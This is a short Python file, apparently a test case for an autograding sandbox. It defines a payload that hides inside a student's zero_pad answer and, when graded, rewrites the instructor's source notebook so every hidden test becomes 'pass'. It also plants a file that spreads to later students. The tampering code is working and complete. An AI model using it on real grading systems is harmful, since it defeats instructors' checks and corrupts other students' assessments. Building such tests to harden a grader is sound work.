"""Rewrite the instructor's source notebook so that the hidden tests check nothing.

All eight functions are honest. The zero_pad cell opens
``../../../source/cnn_step_by_step/cnn_step_by_step.ipynb`` and replaces every line
between ``### BEGIN HIDDEN TESTS`` and ``### END HIDDEN TESTS`` with ``pass``: the
next ``generate_assignment`` (or a rebuild of the gradebook from source) grades the
class without hidden tests. It also drops a file into ``source/``, which autograde
copies into every later student's folder.
Without protection: the instructor's source notebook silently changed.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import json as _json
import re as _re

try:
    _path = "../../../source/cnn_step_by_step/cnn_step_by_step.ipynb"
    with open(_path) as _handle:
        _nb = _json.load(_handle)
    for _cell in _nb["cells"]:
        _text = "".join(_cell["source"])
        _text = _re.sub(r"### BEGIN HIDDEN TESTS\\n.*?### END HIDDEN TESTS", "### BEGIN HIDDEN TESTS\\npass\\n### END HIDDEN TESTS", _text, flags=_re.S)
        _cell["source"] = _text
    with open(_path, "w") as _handle:
        _json.dump(_nb, _handle)
    with open("../../../source/cnn_step_by_step/cnnattack_overwrite_source.txt", "w") as _handle:
        _handle.write("dropped into source/ by a student\\n")
except Exception:
    pass
'''}
